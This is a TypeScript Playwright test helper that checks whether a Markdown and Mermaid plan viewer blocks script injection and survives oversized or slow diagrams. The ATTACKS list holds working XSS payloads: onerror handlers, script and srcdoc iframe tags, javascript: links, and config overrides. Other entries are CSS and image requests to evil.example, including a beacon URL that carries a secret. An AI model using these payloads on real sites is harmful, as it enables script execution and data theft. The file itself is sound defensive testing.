/**
 * A plan that would run or load something (E01, E03): as an agent wrote it, and in the diagrams that a person writes into it,
 * some of which take for ever (E02).
 */
import assert from 'node:assert/strict';
import type { FrameLocator, Locator, Page } from 'playwright-core';

/** A page of the dashboard, or the document of a web view. */
export type Shown = Page | FrameLocator;

const PICTURE =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const ATTACKS: readonly string[] = [
  'sequenceDiagram\n  A->>B: $$<img src=x onerror=top.PWN=1>$$',
  'architecture-beta\n  service db("<img src=x onerror=top.PWN=1>")[Database]',
  'flowchart TD\n  a --> b\n  click a call callMe()\n  click b href "javascript:top.PWN=1"',
  'flowchart TD\n  a["<img src=x onerror=top.PWN=1><script>top.PWN=1</script>"] --> b["`**x** <iframe srcdoc=\'<script>top.PWN=1</script>\'>`"]',
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }"}}%%\nflowchart TD\n  a["<img src=https://evil.example/c.png onerror=top.PWN=1>"] --> b\n  click a call callMe()`,
  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  fontFamily: "x; } * { background: url(https://evil.example/d.png)"\n  dompurifyConfig: { ADD_TAGS: [script] }\n---\nflowchart TD\n  a["<script>top.PWN=1</script>"] --> b',
  'flowchart TD\n  classDef x fill:url(https://evil.example/e.png),background:url(https://evil.example/f.png)\n  a:::x --> b\n  linkStyle 0 stroke:url(https://evil.example/g.png)',
  'flowchart TD\n  a@{ img: "https://evil.example/h.png", label: "x", w: 60, h: 60 } --> b@{ icon: "evil:x" }',
  'classDiagram\n  class A\n  click A href "javascript:top.PWN=1" "<img src=x onerror=top.PWN=1>"\n  link A "https://evil.example/i"',
];

const ends = (letter: string): string => Array.from({ length: 22 }, (_, index) => `${letter}${index}`).join(' & ');

const TOO_LARGE: readonly string[] = [
  `flowchart TD\n${Array.from({ length: 20_000 }, (_, index) => `n${index}`).join('\n')}`,
  `flowchart TD\n  a["${'x '.repeat(500_000)}"]`,
];

/** One long word: it never ends by itself. */
const ENDLESS = `flowchart TD\n  a["${'x'.repeat(45_000)}"]`;

/** Many edges in few words; deep nesting; what regular expressions dislike. */
const SLOW: readonly string[] = [
  `flowchart TD\n  ${ends('a')} --> ${ends('b')}`,
  `flowchart TD\n${Array.from({ length: 1_500 }, (_, index) => `subgraph s${index}`).join('\n')}\na-->b\n${'end\n'.repeat(1_500)}`,
  `flowchart TD\n  a["${'<'.repeat(20_000)}${'&#'.repeat(10_000)}"]`,
];

/** E03: the plan of the hostile script. */
export async function checkPlan(shown: Shown, check: () => Promise<void>): Promise<void> {
  const document = shown.locator('.document').first();
  // The words are there, and what they would have been is not.
  await document.getByText("<script>top.PWN='heading'</script>").waitFor();
  // Asked of the page itself: widgets have styles of their own within.
  const embedded = await document.evaluate(
    (element) => element.querySelectorAll('img, script, link, style, iframe').length,
  );
  assert.equal(embedded, 0, 'E03 nothing is embedded');
  await document.getByText('Image: beacon (https://evil.example/beacon.png?d=SECRET)').waitFor();
  await document.getByText('Image: by name (https://evil.example/reference.png)').waitFor();
  assert.equal(
    await document.locator('a[href^="javascript:" i], a[href^="command:" i], a[href^="data:" i]').count(),
    0,
  );
  await check();
}

/** E01, and images of a document itself (E03): all of them in one plan, each looked at by itself. */
export async function drawAttacks(shown: Shown, check: () => Promise<void>): Promise<void> {
  await write(shown, 'Attacks', ATTACKS);
  const diagrams = diagramsOf(shown);
  for (const index of ATTACKS.keys()) {
    const diagram = diagrams.nth(index);
    await settled(diagram);
    // Whoever clicks on what is drawn runs nothing either.
    await diagram.evaluate((element) => {
      for (const node of [...element.querySelectorAll('.node')].slice(0, 3))
        node.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    });
    const strange = await diagram.locator(':is(a, image, script, iframe, foreignObject, img)').count();
    assert.equal(strange, 0, `E01 attack ${index} put something into the drawing that is no shape`);
  }
  await check();
  await write(shown, 'Images', [], `![dot](${PICTURE})\n\n![svg](data:image/svg+xml,<svg/onload=top.PWN=1>)`);
  await shown.getByRole('button', { name: 'Image: dot (show)' }).click();
  await shown.locator('.document img[alt="Image: dot"]').waitFor();
  assert.equal(await shown.locator('.document img').count(), 1, 'E03 only the image that was asked for is shown');
  await check();
}

/**
 * E02. The page goes on whatever is drawn: this is another matter in each host.
 * @param onLate while the page shows a diagram that takes for ever
 */
export async function drawTooMuch(shown: Shown, onLate: () => Promise<void>): Promise<void> {
  const diagrams = diagramsOf(shown);
  await write(shown, 'Too large', TOO_LARGE);
  for (const index of TOO_LARGE.keys()) {
    const diagram = diagrams.nth(index);
    await diagram.getByText(/at most 50000 are drawn/).waitFor();
    await diagram.getByRole('button', { name: 'Retry render' }).waitFor();
    await diagram.getByLabel('Source of the diagram').waitFor();
  }

  await write(shown, 'Endless', [ENDLESS, 'flowchart TD\n  beside --> it']);
  const source = shown.getByRole('checkbox', { name: 'Source' });
  await source.click();
  await source.click();
  const isBusy = await diagrams.first().getAttribute('aria-busy');
  assert.equal(isBusy, 'true', 'E02 the page did not answer while a diagram was being drawn');
  await diagrams.nth(1).locator('svg').filter({ hasText: 'beside' }).waitFor();
  await diagrams
    .first()
    .getByText(/^Still drawing/)
    .waitFor();
  await onLate();
  await wellAgain(shown);
}

/** E02. What takes long in other ways gives way to what is drawn at once. */
export async function drawSlowly(shown: Shown): Promise<void> {
  await write(shown, 'Slow', [...SLOW, 'flowchart TD\n  behind --> them']);
  await diagramsOf(shown).last().locator('svg').filter({ hasText: 'behind' }).waitFor({ timeout: 120_000 });
  await wellAgain(shown);
}

/** What is drawn next is not harmed by what could not be drawn. */
async function wellAgain(shown: Shown): Promise<void> {
  await write(shown, 'Well again', ['flowchart TD\n  fine --> still']);
  await diagramsOf(shown).first().locator('svg').filter({ hasText: 'still' }).waitFor();
  await shown.getByRole('button', { name: 'Leave it as it was' }).click();
}

/** The text that is written is drawn beside it as it is written. */
async function write(shown: Shown, heading: string, diagrams: readonly string[], text = ''): Promise<void> {
  const edit = shown.getByRole('button', { name: 'Edit the plan' });
  if (await edit.isVisible()) await edit.click();
  const fences = diagrams.map((diagram) => `\`\`\`mermaid\n${diagram}\n\`\`\`\n`);
  // Pasted at one go: what types for a person takes minutes over twenty thousand lines.
  await shown.getByRole('textbox', { name: 'The plan, in Markdown with Mermaid' }).evaluate(
    (field, value) => {
      (field as HTMLTextAreaElement).value = value;
      field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
    },
    [`# ${heading}\n\n${text}`, ...fences].join('\n'),
  );
  await shown.getByRole('heading', { name: heading, exact: true }).waitFor();
}

const diagramsOf = (shown: Shown): Locator => shown.locator('.document .diagram');

/** Once it is drawn, or said why not. */
async function settled(diagram: Locator): Promise<void> {
  await diagram.locator('xpath=self::*[not(@aria-busy="true")]').waitFor();
}
